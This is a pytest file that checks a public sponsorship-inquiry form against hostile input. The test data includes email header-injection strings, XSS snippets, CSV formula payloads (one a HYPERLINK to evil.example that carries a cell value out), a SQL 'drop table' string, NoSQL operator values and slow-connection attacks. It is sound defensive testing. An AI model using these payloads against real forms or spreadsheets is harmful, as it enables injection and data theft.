"""What people and programs put into a form that is open to everybody, and what each of them gets. What keeps most of them
out is in test_sponsorship_limits.py."""
import csv
import io
import json
import socket

import pytest

from forms import DESK, INQUIRIES, Form, address, faults, found, numbers, pointers, stored, ticked, token

TEXTS = ("name", "company", "phone", "budget", "message")
EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>"


# ---- what is in it

@pytest.mark.parametrize("name", ["name", "company"])
@pytest.mark.parametrize("end", ["\r\n", "\n", "\r", "%0d%0a\r\n", "\u0085\n", "\v\r"])
def test_a_line_end_in_a_name_would_be_a_header_and_is_refused(server, site, name, end):
    before, value = stored(server), f"Moi{end}Bcc: everybody@victims.example"
    for send in (Form(site).send, Form(site).post):
        assert pointers(send(422, **{name: value})) == [f"/{name}"]
    assert stored(server) == before


@pytest.mark.parametrize("email", ["moi@a.example\r\nBcc: x@b.example", "moi@a.example, x@b.example", "moi@a.example;x@b.example",
                                   "<moi@a.example>", "moi", "@a.example", "moi@", "moi@localhost", "moi@[127.0.0.1]", "a@b@c.example",
                                   '"a b"@c.example', "moi@-a.example", "moi@a..example", "moi@a.example.", "x" * 65 + "@" + "a" * 250,
                                   "moi\0@a.example", "moi@a.example%0aBcc:", "mailto:moi@a.example", "moi @a.example"])
def test_what_is_no_e_mail_address_is_refused(site, email):
    assert pointers(Form(site).send(422, email=email)) == ["/email"]


@pytest.mark.parametrize("domain, marked", [
    ("brasserie.example", False), ("bücher.example", False), ("日本.example", False), ("παράδειγμα.example", False),
    ("pаypal.example", True),  # a Cyrillic а
    ("аррӏе.example", True),  # Cyrillic throughout
    ("xn--pypal-4ve.example", True), ("gооgle.example", True), ("mıcrosoft.example", True)])
def test_a_domain_that_looks_like_another_is_marked_and_not_lost(site, sales, domain, marked):
    inquiry = found(sales, Form(site, email=f"moi-{next(numbers)}@{domain}").reference())
    assert (inquiry["flags"] == ["lookalike_domain"]) == marked and (inquiry["status"] == "spam") == marked
    assert domain in inquiry["email"]


def test_a_megabyte_is_not_read(server, site):
    before = stored(server)
    for send in (Form(site).send, Form(site).post):
        assert "32768 bytes" in send(413, message="x" * 1_000_000, headers={"Accept-Language": "en"}).json()["detail"]
    reply = Form(site).send(422, message="x" * 5001)
    assert pointers(reply) == ["/message"] and stored(server) == before
    Form(site).send(202, message="é" * 5000)


def test_more_links_than_people_send_are_refused_and_a_few_are_not(site):
    links = "Voir https://a.example et http://b.example"
    Form(site, message=links).send(202)
    for more in (links + " et HTTPS://c.example", links + " et www.c.example", links * 20):
        assert "2 links" in faults(Form(site, message=more, locale="en").send(422))["/message"]


@pytest.mark.parametrize("name", TEXTS)
def test_html_is_text_and_stays_text(site, sales, name):
    inquiry = found(sales, Form(site, **{name: EVIL + " bonjour"}, locale="fr").reference()) if name != "phone" else \
        found(sales, Form(site, phone="<script>alert(1)</script>").reference())
    assert inquiry["flags"] == ["markup"] and "<script>alert(1)</script>" in inquiry[name]
    reply = sales.get(f"{DESK}/{inquiry['id']}", 200)
    assert reply.headers["Content-Type"] == "application/json", "as text in JSON, which no browser takes for a page"
    file = sales.get(f"{DESK}.csv?q={inquiry['reference']}", 200)
    assert file.headers["Content-Type"] == "text/csv; charset=utf-8" and file.headers["X-Content-Type-Options"] == "nosniff"
    assert file.headers["Content-Disposition"] == 'attachment; filename="sponsorship-inquiries.csv"'
    assert list(csv.DictReader(io.StringIO(file.content.decode("utf-8-sig"))))[0][name] == inquiry[name]


@pytest.mark.parametrize("name", ["kind", "article", "section", "locale", "consent", "form_token", "reference", "status"])
def test_html_in_what_is_chosen_is_refused_or_leads_nowhere(site, sales, name):
    form = Form(site)
    if name in ("article", "section"):
        assert found(sales, form.reference(**{name: EVIL}))[name] is None
    else:
        assert f"/{name}" in pointers(form.send(422, **{name: EVIL}))


@pytest.mark.parametrize("formula", ["=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", " =1+1", "＝1+1", "＠SUM(A1)",
                                     "%0A-3", "|calc", "\u200b=1+1", "=HYPERLINK(\"https://evil.example\")", '"=1+1', "\n=1+1"])
def test_a_formula_is_text_in_a_spreadsheet(site, sales, formula):
    inquiry = found(sales, Form(site, message=formula + " et bonjour").reference())
    file = sales.get(f"{DESK}.csv?q={inquiry['reference']}", 200).content.decode("utf-8-sig")
    cell = next(csv.DictReader(io.StringIO(file, newline="")))["message"]
    dangerous = cell.lstrip("\u200b\ufeff \n\t\r")[:1] in tuple("=+-@|%＝＋－＠")
    assert not dangerous and cell.replace("'", "") == inquiry["message"].replace("'", "")


def test_no_cell_is_a_formula_for_a_spreadsheet_that_separates_otherwise(site, sales):
    message = 'Bonjour à tous\n=1+1;=2+2;"=3+3\t@x;\u200e=4+4; - tiret\n=HYPERLINK("https://evil.example/?x="&A1,"Ouvrir")'
    inquiry = found(sales, Form(site, message=message, name="Évile;=5+5").reference())
    file = sales.get(f"{DESK}.csv?q={inquiry['reference']}", 200).content.decode("utf-8-sig")
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter):
            for cell in row:
                assert cell.strip("\u200e\u200b\ufeff \"\n\t\r")[:1] not in tuple("=+-@|%"), (delimiter, cell)


def test_strings_that_break_things_break_nothing(site, sales, corpus, server):
    """Each of the Big List of Naughty Strings in every text at once, as JSON and as a form: kept as it is, or refused there."""
    strings = json.loads(corpus("blns.json").read_text())
    wild = server.serve_beside(MARBRE_FORM_SECONDS_MIN="0", MARBRE_RATE_FORM="0", MARBRE_RATE_FORM_ALL="0",
                               MARBRE_SPONSORSHIP_BURST="0", MARBRE_WORKERS="1", MARBRE_SPONSORSHIP_LINKS="1000")
    kept, client, one = 0, wild.client(), token(wild)
    for string in strings[::8]:
        n = next(numbers)
        body = {"name": string, "email": f"n-{n}@brasserie.example", "company": string, "phone": string, "budget": string, "kind": "other",
                "message": string + " et bonjour", "article": string, "section": string, "locale": "en", "consent": True, "form_token": one}
        reply = client.post(INQUIRIES, body)
        refused = {} if reply.status_code == 202 else faults(reply)
        assert reply.status_code in (202, 422) and "/email" not in refused and "/form_token" not in refused, string
        for pointer in refused:
            body.pop(pointer[1:], None)
        body.setdefault("name", f"Un nom {n}")
        body.setdefault("message", f"Un message {n}")
        body["form_token"] = one = token(wild) if reply.status_code == 202 else one
        if refused:
            client.request("POST", INQUIRIES, 202, data=ticked(body))
            one = token(wild)
        kept += 1
    assert kept == len(strings[::8])
    rows = list(csv.reader(io.StringIO(sales.get(f"{DESK}.csv", 200).content.decode("utf-8-sig"), newline="")))
    assert {len(row) for row in rows} == {len(rows[0])} and len(rows) > kept
    assert wild.stop() == 0


# ---- forms of a body

def test_a_form_under_the_type_of_json_is_no_json_and_json_under_a_forms_is_no_form(site):
    form = Form(site, language="en")
    as_form = "&".join(f"{name}={value}" for name, value in form.body.items())
    send = lambda expect, data, media: site.client().request("POST", INQUIRIES, expect, data=data.encode(), headers={  # noqa: E731
        "Content-Type": media, "X-Forwarded-For": form.at, "Accept-Language": "en"})
    assert "not JSON" in send(400, as_form, "application/json").json()["detail"]
    assert {"/name", "/email", "/consent"} <= set(pointers(send(422, json.dumps(form.body), "application/x-www-form-urlencoded")))
    send(415, "--x\r\n\r\n", "multipart/form-data; boundary=x")
    send(415, json.dumps(form.body), "text/plain")
    form.send(202)


@pytest.mark.parametrize("data, status", [
    (b"name=%", 400), (b"name=%zz", 400), (b"name=%ff%fe", 400), (b"%00=1", 400), (b"name=a%00b", 400), (b"&&&&", 422), (b"=", 422),
    (b"name", 422), (b"name=\xe9", 400), (b"name[]=x", 422), (b"name=a&name=b", 422), (b"a=1" + b"&a=1" * 8000, 422),
    (b"__proto__[x]=1", 422), (b"consent=maybe", 422), (b"name=" + b"+" * 30000, 422)])
def test_a_form_that_is_none_does_no_harm(server, site, data, status):
    before = stored(server)
    reply = site.client().request("POST", INQUIRIES, status, data=data, headers={
        "Content-Type": "application/x-www-form-urlencoded", "X-Forwarded-For": address()})
    assert stored(server) == before and reply.json()["status"] == status


def test_a_field_that_comes_twice_is_told_of(site):
    form = Form(site)
    data = "&".join(f"{name}={value}" for name, value in form.fields({}).items()) + "&email=other@b.example"
    reply = site.client().request("POST", INQUIRIES, 422, data=data.encode(), headers={
        "Content-Type": "application/x-www-form-urlencoded", "X-Forwarded-For": form.at})
    assert "/email" in pointers(reply)


@pytest.mark.parametrize("unknown", ["status", "assignee", "id", "flags", "reference", "created_at", "is_admin", "next", "x" * 300])
def test_a_member_that_a_sender_may_not_write_is_unknown(site, unknown):
    assert any(pointer.startswith(f"/{unknown[:200]}") for pointer in pointers(Form(site).send(422, **{unknown: "won"})))


@pytest.mark.parametrize("consent", [None, False, "true", "yes", 1, 0, "", [], {}])
def test_without_consent_nothing_is_kept(server, site, consent):
    before = stored(server)
    assert pointers(Form(site).send(422, consent=consent)) == ["/consent"] and stored(server) == before


@pytest.mark.parametrize("value", [1, True, [], {}, ["a@b.example"], {"$ne": ""}, None])
def test_members_of_another_kind_are_refused(site, value):
    body = {**Form(site).body, "email": value}
    reply = site.client().post(INQUIRIES, body, 422, headers={"X-Forwarded-For": address()})
    assert pointers(reply) == ["/email"]


@pytest.mark.parametrize("message", ["", "trop", " " * 20, "\n\t " * 9, "\u200b" * 30, "\u00a0\u2003" * 10, "\ufeff" * 20])
def test_a_message_has_something_to_read_in_it(site, message):
    assert pointers(Form(site).send(422, message=message)) == ["/message"]


def test_nesting_is_refused_before_it_is_read(site):
    reply = site.client().request("POST", INQUIRIES, 400, data=b'{"name":' + b"[" * 9000 + b"]" * 9000 + b"}", headers={
        "Content-Type": "application/json", "X-Forwarded-For": address()})
    assert reply.json()["type"] == "/problems/bad-request"


def test_sql_in_every_text_is_text(server, site, sales):
    evil = "'); drop table marbre.sponsorship_inquiries; --"
    inquiry = found(sales, Form(site, **{name: evil[:40] for name in TEXTS}).reference())
    assert inquiry["name"] == evil[:40] and sales.get(f"{DESK}?q={evil[:20]}", 200).json()["data"]


def test_a_page_is_not_told_who_else_has_written(site):
    """The same answer for an address that has sent something and for one that has not."""
    form = Form(site)
    form.send(202)
    again, other = Form(site, email=form.body["email"]).send(202), Form(site).send(202)
    assert again.json().keys() == other.json().keys() and set(again.headers) == set(other.headers)


def test_a_reader_finds_no_inquiry_by_its_reference(site):
    reference = Form(site).reference()
    for path in (INQUIRIES, f"{INQUIRIES}/{reference}", f"{DESK}?q={reference}"):
        assert site.client().get(path).status_code in (401, 404, 405)


def test_a_slow_sender_of_a_form_holds_up_nobody(site):
    with socket.create_connection(("127.0.0.1", site.port), timeout=10) as slow:
        slow.sendall(b"POST /v1/sponsorship-inquiries HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                     b"X-Forwarded-For: 192.0.2.1\r\nContent-Length: 9000\r\n\r\nname=")
        Form(site).send(202)
